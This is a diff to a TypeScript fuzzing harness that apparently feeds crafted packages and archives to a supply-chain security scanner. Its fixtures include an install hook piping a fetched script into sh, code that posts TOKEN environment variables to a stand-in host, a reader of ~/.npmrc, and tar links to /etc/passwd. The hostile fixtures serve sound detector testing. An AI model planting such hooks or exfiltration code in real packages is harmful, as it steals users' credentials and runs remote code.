@@ -7,15 +7,15 @@ import { randomFrom } from "../conformance/attacks/host.ts";
 import { incidents } from "../conformance/incidents/replay.ts";
 import type { ArchiveKind } from "../src/artifacts/index.ts";
 import type { PackageEntry } from "../src/checks/behaviour/analysis/files-package.ts";
-import { tar } from "../test/registry/tar.ts";
-import { zip } from "../test/registry/zip.ts";
+import { type TarEntry, tar } from "../test/registry/tar.ts";
+import { type ZipEntry, zip } from "../test/registry/zip.ts";
 
 export type FuzzInput =
   | { readonly kind: "package"; readonly before: readonly PackageEntry[]; readonly after: readonly PackageEntry[] }
   | { readonly kind: "archive"; readonly archive: ArchiveKind; readonly before: Buffer; readonly after: Buffer };
 
 /** One sample of every kind of file that has an analysis of its own, or says what runs by itself. */
-export const samples: Readonly<Record<string, string>> = {
+const samples: Readonly<Record<string, string>> = {
   "package.json": `{"name":"kit","version":"1.0.1","main":"index.js","bin":{"kit":"bin/kit.js","git":"bin/kit.js"},"scripts":{"postinstall":"node scripts/setup.js && curl -s http://127.0.0.1:9/x | sh","prepare":"husky"},"dependencies":{"a":"^1.0.0","b":"git+ssh://git@host.example/b.git#v1","c":"npm:d@1"},"optionalDependencies":{"e":"https://127.0.0.1:9/e.tgz"},"peerDependencies":{"f":"*"},"gypfile":true}`,
   "index.js": `#!/usr/bin/env node\n"use strict";\nconst { execSync: run } = require("child_" + "process"), os = require("os");\nconst at = ["h", "t", "t", "p"].join("") + String.fromCharCode(115);\nclass Kit extends Map { #p = 1; static { this.q = /[/\\]]+(?<n>a)/gu.exec("x")?.groups; } async *go(...a) { for await (const b of a) yield* b ?? (await 0); } }\nconst hidden = Buffer.from("cmVxdWlyZQ==", "base64").toString(); if (false) eval(atob("dm9pZCAw"));\nfor (const k in process.env) if (/TOKEN/.test(k)) fetch(\`https://a.invalid/\${process.env[k]}\`, { method: "POST", body: JSON.stringify({ ...process.env }) });\nmodule.exports = new Function("return this")()[hidden]; label: while (1) { break label; }\n`,
   "lib/mod.mjs": `import fs, * as all from "node:fs"; import data from "./data.json" with { type: "json" };\nexport default async () => { const { readFile: r = all.readFile } = fs; return (await import(["node:ht", "tps"].join(""))).request(await r(\`\${process.env.HOME}/.npmrc\`)); };\nexport { a as b } from "./a.js"; export * from "b"; globalThis.fetch = new Proxy(fetch, {});\n`,
@@ -49,7 +49,7 @@ export const samples: Readonly<Record<string, string>> = {
   "test/a.bin": `\u007fELF\u0002\u0001\u0001\u0000${"\u00ffx".repeat(300)}`,
 };
 
-export const nasty: readonly string[] = [
+const nasty: readonly string[] = [
   "(",
   "[",
   "{",
@@ -151,7 +151,7 @@ export const nasty: readonly string[] = [
   "A".repeat(300),
 ];
 /** Things within each other, so deep that a reader that goes down by calls would fall. */
-export const deep: readonly (readonly [open: string, middle: string, close: string])[] = [
+const deep: readonly (readonly [open: string, middle: string, close: string])[] = [
   ["(", "0", ")"],
   ["[", "", "]"],
   ['{"a":', "1", "}"],
@@ -187,16 +187,14 @@ const MOST_DEPTH = 20_000;
 /** One in so many inputs is deep: they cost a hundred times as much as others. */
 const DEEP_ONE_IN = 150;
 
-const base: readonly (readonly [path: string, bytes: Buffer])[] = [
-  ...Object.entries(samples).map(([path, text]): [string, Buffer] => [path, Buffer.from(text)]),
-  ...incidents().flatMap(({ change }) => [
-    ...Object.entries(change.add ?? {}).map(([path, text]): [string, Buffer] => [path.replaceAll("%MODULE%", "kit"), Buffer.from(text)]),
-    ...Object.entries(change.append ?? {}).map(([path, text]): [string, Buffer] => [
-      `more/${path.replaceAll("%MODULE%", "kit")}`,
-      Buffer.from(text),
-    ]),
-  ]),
-].filter(([, bytes]) => bytes.length < 12_000);
+const incidentTexts = (): readonly (readonly [path: string, text: string])[] =>
+  incidents().flatMap(({ change: { add = {}, append = {} } }) =>
+    Object.entries(add).concat(Object.entries(append).map(([path, text]): [string, string] => [`more/${path}`, text])),
+  );
+
+const base: readonly (readonly [path: string, bytes: Buffer])[] = [...Object.entries(samples), ...incidentTexts()]
+  .map(([path, text]): [string, Buffer] => [path.replaceAll("%MODULE%", "kit"), Buffer.from(text)])
+  .filter(([, bytes]) => bytes.length < 12_000);
 
 type Random = (below: number) => number;
 const pick = <T>(random: Random, list: readonly T[]): T => list[random(list.length)] as T;
@@ -291,20 +289,7 @@ const packers: readonly (readonly [ArchiveKind, (files: ReadonlyMap<string, Buff
   ["tgz", (files, random) => gzipSync(tarOf(files, random, "package/"), { level: 1 })],
   ["tar", (files, random) => tarOf(files, random, "package/")],
   ["tar.zst", (files, random) => zstdCompressSync(tarOf(files, random, "kit/"))],
-  [
-    "zip",
-    (files, random) =>
-      zip(
-        [...files].map(([path, content]) => ({
-          path: oddly(random, path),
-          content,
-          method: random(8) === 0 ? random(16) : random(2) * 8,
-          ...(random(30) === 0 ? { size: random(2 ** 31) } : {}),
-          overlaps: random(60) === 0,
-          hidden: random(60) === 0,
-        })),
-      ),
-  ],
+  ["zip", (files, random) => zip([...files].map(([path, content]) => zipMember(path, content, random)))],
   [
     "gem",
     (files, random) =>
@@ -353,31 +338,32 @@ const oddly = (random: Random, path: string): string =>
         "x/".repeat(300) + path,
       ]);
 
+/** One in so many members is not as an honest writer would have it. */
+const ODD_ONE_IN = 60;
+
+const zipMember = (path: string, content: Buffer, random: Random): ZipEntry => ({
+  path: oddly(random, path),
+  content,
+  method: random(8) === 0 ? random(16) : random(2) * 8,
+  ...(random(ODD_ONE_IN) === 0 ? { size: random(2 ** 31) } : {}),
+  overlaps: random(ODD_ONE_IN) === 0,
+  hidden: random(ODD_ONE_IN) === 0,
+});
+
+const types = ["1", "2", "3", "5", "7", "L", "S", "g", "x", "\0"];
+const paxKeys = ["path", "size", "linkpath", "GNU.sparse.size", "x"];
+
+const tarMember = (path: string, content: Buffer, random: Random): TarEntry => ({
+  path: oddly(random, path),
+  content,
+  ...(random(ODD_ONE_IN) === 0 ? { type: pick(random, types), link: pick(random, ["../x", "/etc/passwd", path]) } : {}),
+  ...(random(ODD_ONE_IN) === 0 ? { size: random(2 ** 31), base256: random(2) === 0 } : {}),
+  ...(random(ODD_ONE_IN) === 0 ? { badChecksum: true } : {}),
+  ...(random(ODD_ONE_IN) === 0 ? { pax: { [pick(random, paxKeys)]: pick(random, ["../x", "-1", "999999999999", "a\u0000b", path]) } } : {}),
+});
+
 const tarOf = (files: ReadonlyMap<string, Buffer>, random: Random, prefix: string): Buffer =>
-  tar(
-    [...files].map(([path, content]) => ({
-      path: oddly(random, prefix + path),
-      content,
-      ...(random(50) === 0
-        ? { type: pick(random, ["1", "2", "3", "5", "7", "L", "S", "g", "x", "\0"]), link: pick(random, ["../x", "/etc/passwd", path]) }
-        : {}),
-      ...(random(60) === 0 ? { size: random(2 ** 31), base256: random(2) === 0 } : {}),
-      ...(random(60) === 0 ? { badChecksum: true } : {}),
-      ...(random(60) === 0
-        ? {
-            pax: {
-              [pick(random, ["path", "size", "linkpath", "GNU.sparse.size", "x"])]: pick(random, [
-                "../x",
-                "-1",
-                "999999999999",
-                "a\u0000b",
-                path,
-              ]),
-            },
-          }
-        : {}),
-    })),
-  );
+  tar([...files].map(([path, content]) => tarMember(prefix + path, content, random)));
 
 const ar = (members: readonly (readonly [string, Buffer])[]): Buffer =>
   Buffer.concat([
